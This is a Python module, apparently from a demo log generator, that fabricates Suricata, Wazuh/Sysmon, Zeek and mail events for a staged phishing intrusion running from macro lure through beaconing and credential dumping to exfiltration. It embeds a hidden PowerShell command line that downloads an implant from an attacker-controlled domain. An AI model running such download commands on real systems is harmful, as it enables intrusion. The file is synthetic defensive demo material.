"""A mail, a macro, a beacon, the file server, and the way out: five sensors see one intrusion."""

from collections.abc import Iterator

from deploy.demo.generator import company
from deploy.demo.generator.formats import plain_json, suricata_eve, wazuh4, zeek_json
from deploy.demo.generator.formats.suricata_eve import Signature
from deploy.demo.generator.happening import Happening, flow, md5, sha256
from deploy.demo.generator.stories.scene import Scene

_LURE = Signature(
    9001001,
    "LOCAL PHISHING Office file with macro from a new sender",
    "Possible Social Engineering Attempted",
    2,
    "Major",
    "T1566.001",
)
_BEACON = Signature(
    9001002,
    "LOCAL MALWARE Beacon: regular TLS to a young domain",
    "Malware Command and Control Activity Detected",
    1,
    "Critical",
    "T1071.001",
)
_TOOL = Signature(
    9001003, "LOCAL MALWARE Program fetched by PowerShell", "A Network Trojan was detected", 1, "Major", "T1105"
)
_SHARE = Signature(
    9001004, "LOCAL LATERAL Service created over ADMIN$", "Potentially Bad Traffic", 1, "Major", "T1021.002"
)
_OUT = Signature(
    9001005,
    "LOCAL EXFIL Large upload to a young domain",
    "Potential Corporate Privacy Violation",
    1,
    "Critical",
    "T1041",
)

_MACRO = wazuh4.Rule(
    "92052", 12, "Sysmon: Office started PowerShell", ("sysmon", "sysmon_event1", "windows"), ("T1204.002", "T1059.001")
)
_DROPPED = wazuh4.Rule(
    "92213", 15, "Sysmon: program written to a folder malware likes", ("sysmon", "windows"), ("T1105",)
)
_DUMP = wazuh4.Rule(
    "92900", 14, "Sysmon: LSASS memory read by an unusual process", ("sysmon", "windows"), ("T1003.001",)
)
_REMOTE = wazuh4.Rule(
    "92652", 6, "Windows: network logon of a person on a server", ("windows", "authentication_success"), ("T1078",)
)
_SERVICE = wazuh4.Rule(
    "61138", 13, "Windows: a service with a random name was installed", ("windows", "system"), ("T1569.002",)
)

_IMPLANT = "C:\\Users\\Public\\Libraries\\helper.exe"


def phishing(scene: Scene) -> Iterator[Happening]:
    """About three minutes from mail to exfiltration, beaconing all the way."""
    yield from _arrival(scene)
    rng, enemy = scene.rng, scene.enemy
    host, person = company.workstation(rng, "finance")
    payload, ja3 = sha256(rng), md5(rng)
    sender = f"billing@{enemy.domain}"
    yield plain_json.mail(
        scene.at(1),
        rng,
        sender=sender,
        person=person,
        subject="Overdue: invoice",
        address=enemy.address,
        verdict="flagged",
        attachment="invoice.docm",
        sha256=payload,
        technique="T1566.001",
    )
    yield from _macro(scene, host, person.account, payload)
    yield from _beacon(scene, host, ja3)
    yield from _lateral(scene, host, person.account)
    yield from _exfiltration(scene, host)


def _arrival(scene: Scene) -> Iterator[Happening]:
    enemy = scene.enemy
    inbound = flow(scene.rng, enemy.address, company.MAIL_SERVER.address, 25, "smtp")
    email = {"from": f"billing@{enemy.domain}", "to": [f"accounts@{company.DOMAIN}"], "subject": "Overdue: invoice"}
    yield suricata_eve.alert(scene.at(0), scene.rng, _LURE, inbound, email=email)


def _macro(scene: Scene, host: company.Host, account: str, payload: str) -> Iterator[Happening]:
    rng, enemy = scene.rng, scene.enemy
    fetch = f"http://{enemy.domain}/s/{rng.getrandbits(24):06x}"
    parts = wazuh4.sysmon(
        1,
        host,
        image="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        user=f"ALDERBROOK\\{account}",
        commandLine=f"powershell -w hidden -c iwr {fetch} -OutFile {_IMPLANT}",
        processId=str(rng.getrandbits(14)),
        parentImage="C:\\Program Files\\Office\\WINWORD.EXE",
        parentCommandLine="WINWORD.EXE /n invoice.docm",
        hashes=f"SHA256={payload}",
    )
    yield wazuh4.alert(scene.at(9), rng, _MACRO, host, **parts)
    asked = flow(rng, host.address, company.RESOLVER.address, 53, "dns", protocol="UDP")
    yield suricata_eve.dns(scene.at(9.4), rng, asked, enemy.domain, enemy.second_address)
    download = flow(rng, host.address, enemy.second_address, 80, "http")
    request = suricata_eve.request(
        enemy.domain, fetch.partition(enemy.domain)[2], "WindowsPowerShell/5.1", length=412_672
    )
    yield suricata_eve.alert(scene.at(9.8), rng, _TOOL, download, http=request)
    yield suricata_eve.fileinfo(scene.at(10), download, filename="/s/helper", sha256=payload, size=412_672)
    parts = wazuh4.sysmon(11, host, image="powershell.exe", targetFilename=_IMPLANT, user=f"ALDERBROOK\\{account}")
    yield wazuh4.alert(scene.at(11), rng, _DROPPED, host, **parts)


def _beacon(scene: Scene, host: company.Host, ja3: str) -> Iterator[Happening]:
    rng, enemy = scene.rng, scene.enemy
    for moment in scene.every(6, 28, start=16):
        call = flow(rng, host.address, enemy.second_address, 443, "tls")
        yield suricata_eve.alert(moment, rng, _BEACON, call, tls=suricata_eve.handshake(enemy.domain, ja3))
        yield zeek_json.ssl(moment, call, enemy.domain, ja3, valid=False)
    first = flow(rng, host.address, enemy.second_address, 443, "tls")
    yield zeek_json.notice(
        scene.at(18),
        "SSL::Invalid_Server_Cert",
        "The server's certificate is self-signed",
        sub=f"CN={enemy.domain}",
        flow=first,
    )


def _lateral(scene: Scene, host: company.Host, account: str) -> Iterator[Happening]:
    rng, target = scene.rng, company.FILE_SERVER
    parts = wazuh4.sysmon(10, host, sourceImage=_IMPLANT, targetImage="C:\\Windows\\System32\\lsass.exe")
    yield wazuh4.alert(scene.at(62), rng, _DUMP, host, **parts)
    logon = wazuh4.security_log(
        4624, target, targetUserName=account, ipAddress=host.address, logonType="3", workstationName=host.name
    )
    yield wazuh4.alert(scene.at(81), rng, _REMOTE, target, **logon)
    session = flow(rng, host.address, target.address, 445, "smb")
    user = {"ntlmssp": {"user": account, "domain": "ALDERBROOK", "host": host.name}}
    yield suricata_eve.alert(scene.at(82), rng, _SHARE, session, smb=user)
    service = wazuh4.security_log(7045, target, serviceName=f"s{rng.getrandbits(32):08x}", imagePath=_IMPLANT)
    yield wazuh4.alert(scene.at(83), rng, _SERVICE, target, **service)


def _exfiltration(scene: Scene, host: company.Host) -> Iterator[Happening]:
    rng, enemy = scene.rng, scene.enemy
    for moment in scene.every(9, 4, start=140):
        upload = flow(rng, host.address, enemy.second_address, 443, "tls")
        yield suricata_eve.alert(moment, rng, _OUT, upload)
        yield suricata_eve.flow_ended(moment, rng, upload, megabytes=rng.uniform(80, 400))
        yield zeek_json.conn(moment, rng, upload, sent=rng.randrange(80_000_000, 400_000_000))
